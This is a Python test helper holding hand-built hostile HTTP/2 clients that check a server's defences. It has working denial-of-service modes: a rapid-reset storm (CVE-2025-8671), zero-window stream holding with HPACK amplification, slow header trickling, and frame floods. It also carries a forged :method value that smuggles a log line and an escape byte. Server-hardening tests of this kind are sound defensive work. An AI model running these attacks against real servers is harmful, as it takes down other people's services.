#!/usr/bin/python3
"""Hostile HTTP/2 clients for tests/h2_hostile.rs, over TLS (ALPN h2) or h2c.

Frames (and the few HPACK bytes of a GET) are written by hand, 9-byte header
plus payload, so that each attack is exactly what it says and no client
library smooths it over; only the standard library is used. Every mode
prints JSON lines on stdout.

    h2attack.py hold  HOST PORT tls|h2c PATH CONNS STREAMS SECS [full]
        Each connection sets SETTINGS_INITIAL_WINDOW_SIZE = 0 (the server may
        send no DATA), opens STREAMS requests for PATH, never opens a window,
        and sends a PING every second so that it is never idle. Reports per
        connection when it got GOAWAY or was closed, and refused streams.
        With `full`, the first request adds a 4000-octet user-agent to the
        HPACK table and every request names it three times: 12 KiB of head
        per stream for 3 octets on the wire.
    greedy HOST PORT tls|h2c PATH CONNS STREAMS SECS
        Each connection opens every window as wide as HTTP/2 allows, asks for
        PATH on STREAMS streams in one write, and then reads nothing for SECS:
        whatever the server answers piles up on its side.
    reset-storm HOST PORT tls|h2c STREAMS
        In one write, STREAMS x (HEADERS for /missing-N with END_STREAM, then
        WINDOW_UPDATE 0 on its stream), which the server must answer with a
        reset (CVE-2025-8671, "MadeYouReset"). Reports resets and GOAWAY.
    trickle HOST PORT tls|h2c INTERVAL SECS
        After the handshake, a HEADERS frame one octet every INTERVAL seconds
        (so the frame never ends); reports when the server closed or sent
        GOAWAY, at most SECS.
    forged HOST PORT tls|h2c
        One GET whose :method is `GET / HTTP/1.1" 200 0 "-" "x` with an escape
        byte; reports the stream's fate (a :status, or reset).
    flood HOST PORT tls|h2c KIND MAX_FRAMES
        KIND: priority, settings, ping, empty-data, window-update. Sends up to
        MAX_FRAMES such frames in batches, reading between batches, and
        reports the frames sent when GOAWAY arrived and its error code.
    bad   HOST PORT tls|h2c CASE
        CASE: window-too-big, settings-ack-payload, ping-length, hpack-index.
        Sends one malformed frame; reports the GOAWAY error code.
    status HOST PORT tls|h2c PATH AUTHORITY
        One GET for PATH with AUTHORITY as its :authority (any bytes, which
        no client library sends); reports the response's :status.
"""
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream) + payload


def connect(host, port, mode):
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if mode == "tls":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
        assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    return s


class Reader:
    """Frames the server sends: GOAWAY code, RST_STREAM codes, EOF."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.resets = {}
        self.frames = 0

    def pump(self, timeout):
        """Reads what arrives within `timeout`; False once closed."""
        if self.closed:
            return False
        pending = getattr(self.sock, "pending", lambda: 0)()
        if not pending:
            r, _, _ = select.select([self.sock], [], [], timeout)
            if not r:
                return True
        try:
            data = self.sock.recv(1 << 16)
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
            return True
        except (ConnectionError, OSError, ssl.SSLError):
            data = b""
        if not data:
            self.closed = True
            return False
        self.buf += data
        while len(self.buf) >= 9:
            n = (self.buf[0] << 16) | (self.buf[1] << 8) | self.buf[2]
            if len(self.buf) < 9 + n:
                break
            kind = self.buf[3]
            payload = self.buf[9:9 + n]
            self.frames += 1
            if kind == GOAWAY and n >= 8 and self.goaway is None:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == RST and n == 4:
                code = struct.unpack(">I", payload)[0]
                self.resets[code] = self.resets.get(code, 0) + 1
            self.buf = self.buf[9 + n:]
        return True


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def get_headers(path, tls):
    # HPACK literal-free where possible: :method GET (2), :scheme (6/7),
    # :path as a literal without indexing (name index 4).
    p = path.encode()
    block = bytes([0x82, 0x87 if tls else 0x86, 0x04, len(p)]) + p
    block += bytes([0x01, 9]) + b"localhost"  # :authority, literal
    return block


# HPACK: user-agent (static index 58) with incremental indexing, a value of
# 4000 octets (a 7-bit-prefix integer: 127, then 3873 in two octets); then
# the new entry, index 62, three times.
BIG_UA = bytes([0x40 | 58, 0x7F, 0x80 | (3873 % 128), 3873 // 128]) + b"u" * 4000
BIG_UA_REF = bytes([0x80 | 62]) * 3


def hold(host, port, mode, path, conns, streams, secs, full=False):
    t0 = time.monotonic()
    results = [None] * conns
    start = threading.Barrier(conns + 1)

    def one(i):
        r = {"goaway": None, "goaway_at": None, "closed_at": None, "refused": 0,
             "opened": 0, "error": None}
        try:
            s = connect(host, port, mode)
            # Initial stream window 0: no DATA may be sent on any stream.
            out = PREFACE + settings([(4, 0), (3, 1000)])
            for k in range(streams):
                block = get_headers(path, mode == "tls")
                if full:
                    block += (BIG_UA + BIG_UA_REF[:2]) if k == 0 else BIG_UA_REF
                out += frame(HEADERS, 0x5, 2 * k + 1, block)
                r["opened"] += 1
            s.sendall(out)
            s.settimeout(5)
            rd = Reader(s)
            start.wait()
            end = t0 + secs
            next_ping = time.monotonic() + 1.0
            acked = False
            while time.monotonic() < end:
                if not rd.pump(0.2):
                    break
                if not acked and rd.frames:
                    s.sendall(frame(SETTINGS, 1, 0))
                    acked = True
                if rd.goaway is not None and r["goaway_at"] is None:
                    r["goaway_at"] = time.monotonic() - t0
                if time.monotonic() >= next_ping:
                    next_ping += 1.0
                    try:
                        s.sendall(frame(PING, 0, 0, b"keepmeup"))
                    except OSError:
                        rd.closed = True
                        break
            r["goaway"] = rd.goaway
            if rd.goaway is not None and r["goaway_at"] is None:
                r["goaway_at"] = time.monotonic() - t0
            if rd.closed:
                r["closed_at"] = time.monotonic() - t0
            r["refused"] = rd.resets.get(7, 0)
            s.close()
        except Exception as e:  # noqa: BLE001 - reported, not raised
            r["error"] = repr(e)
            try:
                start.wait(timeout=0)
            except threading.BrokenBarrierError:
                pass
        results[i] = r

    threads = [threading.Thread(target=one, args=(i,)) for i in range(conns)]
    for t in threads:
        t.start()
    try:
        start.wait(timeout=60)
    except threading.BrokenBarrierError:
        pass
    print(json.dumps({"event": "all_open", "t": time.monotonic() - t0}), flush=True)
    for t in threads:
        t.join()
    print(json.dumps({"event": "done", "conns": results}), flush=True)


def flood_frame(kind, i):
    if kind == "priority":
        # Stream 2i+101 depends on stream 0, weight 16: an idle stream.
        return frame(PRIORITY, 0, 2 * (i % 100000) + 101, struct.pack(">IB", 0, 15))
    if kind == "settings":
        return frame(SETTINGS, 0, 0)
    if kind == "ping":
        return frame(PING, 0, 0, struct.pack(">Q", i))
    if kind == "empty-data":
        return frame(DATA, 0, 1)
    if kind == "padded-data":
        # Padding only: 255 octets of it and no body.
        return frame(DATA, 0x8, 1, b"\xff" + b"\0" * 255)
    if kind == "window-update":
        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    raise SystemExit("unknown flood kind " + kind)


def flood(host, port, mode, kind, max_frames):
    s = connect(host, port, mode)
    out = PREFACE + settings([(4, 0)]) + frame(SETTINGS, 1, 0)
    if kind in ("empty-data", "padded-data"):
        # A request whose stream stays open (no END_STREAM) and whose
        # response cannot be sent (window 0): the stream to send DATA on.
        out += frame(HEADERS, 0x4, 1, get_headers("/small.txt", mode == "tls"))
    s.sendall(out)
    rd = Reader(s)
    sent = 0
    batch = 50
    while sent < max_frames and rd.goaway is None and not rd.closed:
        chunk = b"".join(flood_frame(kind, sent + k) for k in range(batch))
        try:
            s.sendall(chunk)
        except OSError:
            break
        sent += batch
        rd.pump(0)
    at = sent
    end = time.monotonic() + 5
    while rd.goaway is None and not rd.closed and time.monotonic() < end:
        rd.pump(0.2)
    print(json.dumps({"kind": kind, "sent": at, "goaway": rd.goaway,
                      "closed": rd.closed, "server_frames": rd.frames}), flush=True)


def greedy(host, port, mode, path, conns, streams, secs):
    socks = []
    for _ in range(conns):
        s = connect(host, port, mode)
        out = PREFACE + settings([(4, (1 << 31) - 1)]) + frame(SETTINGS, 1, 0)
        out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
        for k in range(streams):
            out += frame(HEADERS, 0x5, 2 * k + 1, get_headers(path, mode == "tls"))
        s.sendall(out)
        socks.append(s)
    print(json.dumps({"event": "all_sent", "conns": len(socks)}), flush=True)
    time.sleep(secs)
    for s in socks:
        s.close()
    print(json.dumps({"event": "done"}), flush=True)


def reset_storm(host, port, mode, streams):
    s = connect(host, port, mode)
    out = PREFACE + settings([]) + frame(SETTINGS, 1, 0)
    for k in range(streams):
        sid = 2 * k + 1
        out += frame(HEADERS, 0x5, sid, get_headers("/missing-%d" % k, mode == "tls"))
        out += frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))
    s.sendall(out)
    rd = Reader(s)
    end = time.monotonic() + 3
    while not rd.closed and time.monotonic() < end:
        rd.pump(0.2)
    print(json.dumps({"resets": sum(rd.resets.values()), "goaway": rd.goaway,
                      "closed": rd.closed}), flush=True)


def trickle(host, port, mode, interval, secs):
    s = connect(host, port, mode)
    s.sendall(PREFACE + settings([]) + frame(SETTINGS, 1, 0))
    rd = Reader(s)
    rd.pump(0.5)
    t0 = time.monotonic()
    block = get_headers("/small.txt", mode == "tls")
    pending = frame(HEADERS, 0x5, 1, block + b"\0" * 4000)
    sent = 0
    while time.monotonic() - t0 < secs and rd.goaway is None and not rd.closed:
        try:
            s.sendall(pending[sent:sent + 1])
        except OSError:
            rd.closed = True
            break
        sent += 1
        end = time.monotonic() + interval
        while time.monotonic() < end and rd.goaway is None and not rd.closed:
            rd.pump(max(0.0, end - time.monotonic()))
    print(json.dumps({"sent": sent, "goaway": rd.goaway, "closed": rd.closed,
                      "at": time.monotonic() - t0}), flush=True)


def bad(host, port, mode, case):
    s = connect(host, port, mode)
    s.sendall(PREFACE + settings([]) + frame(SETTINGS, 1, 0))
    if case == "window-too-big":
        payload = struct.pack(">HI", 4, 1 << 31)
        s.sendall(frame(SETTINGS, 0, 0, payload))
    elif case == "settings-ack-payload":
        s.sendall(frame(SETTINGS, 1, 0, struct.pack(">HI", 3, 100)))
    elif case == "ping-length":
        s.sendall(frame(PING, 0, 0, b"1234567"))
    elif case == "hpack-index":
        # Indexed field 200: beyond the static table, and the dynamic
        # table is empty.
        s.sendall(frame(HEADERS, 0x5, 1, bytes([0x82, 0x86, 0x84, 0xFF, 200 - 127])))
    else:
        raise SystemExit("unknown case " + case)
    rd = Reader(s)
    end = time.monotonic() + 5
    while rd.goaway is None and not rd.closed and time.monotonic() < end:
        rd.pump(0.2)
    print(json.dumps({"case": case, "goaway": rd.goaway, "closed": rd.closed}), flush=True)


# The :status values of the HPACK static table (RFC 7541 A), by index.
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def status(host, port, mode, path, authority, method=None):
    s = connect(host, port, mode)
    p, a = path.encode(), authority.encode()
    if method is None:
        first = bytes([0x82])
    else:
        # :method (static name index 2) as a literal, not indexed.
        m = method.encode("latin-1")
        first = bytes([0x02, len(m)]) + m
    block = first + bytes([0x87 if mode == "tls" else 0x86, 0x04, len(p)]) + p
    block += bytes([0x01, len(a)]) + a
    s.sendall(PREFACE + settings([]) + frame(SETTINGS, 1, 0) + frame(HEADERS, 0x5, 1, block))
    buf, got, end = b"", None, time.monotonic() + 5
    while got is None and time.monotonic() < end:
        r, _, _ = select.select([s], [], [], 0.2)
        if not r and not getattr(s, "pending", lambda: 0)():
            continue
        data = s.recv(1 << 16)
        if not data:
            break
        buf += data
        while len(buf) >= 9:
            n = (buf[0] << 16) | (buf[1] << 8) | buf[2]
            if len(buf) < 9 + n:
                break
            kind, stream, payload = buf[3], struct.unpack(">I", buf[5:9])[0], buf[9:9 + n]
            buf = buf[9 + n:]
            if kind == HEADERS and stream == 1:
                i = 0
                while payload[i] & 0xE0 == 0x20:  # dynamic table size updates
                    i += 1
                first = payload[i]
                if first & 0x80:
                    got = STATIC_STATUS.get(first & 0x7F)
                else:  # literal :status (name index 8), value as a string
                    vlen = payload[i + 1] & 0x7F
                    got = int(payload[i + 2:i + 2 + vlen])
            elif kind == RST and stream == 1:
                got = "reset"
    print(json.dumps({"path": path, "authority": authority, "status": got}), flush=True)


def main(argv):
    cmd, host, port, mode = argv[1], argv[2], int(argv[3]), argv[4]
    if cmd == "hold":
        hold(host, port, mode, argv[5], int(argv[6]), int(argv[7]), float(argv[8]),
             len(argv) > 9 and argv[9] == "full")
    elif cmd == "greedy":
        greedy(host, port, mode, argv[5], int(argv[6]), int(argv[7]), float(argv[8]))
    elif cmd == "reset-storm":
        reset_storm(host, port, mode, int(argv[5]))
    elif cmd == "trickle":
        trickle(host, port, mode, float(argv[5]), float(argv[6]))
    elif cmd == "forged":
        status(host, port, mode, "/small.txt", "localhost",
               'GET / HTTP/1.1" 200 0 "-" "x\x1b[2J')
    elif cmd == "flood":
        flood(host, port, mode, argv[5], int(argv[6]))
    elif cmd == "bad":
        bad(host, port, mode, argv[5])
    elif cmd == "status":
        status(host, port, mode, argv[5], argv[6])
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
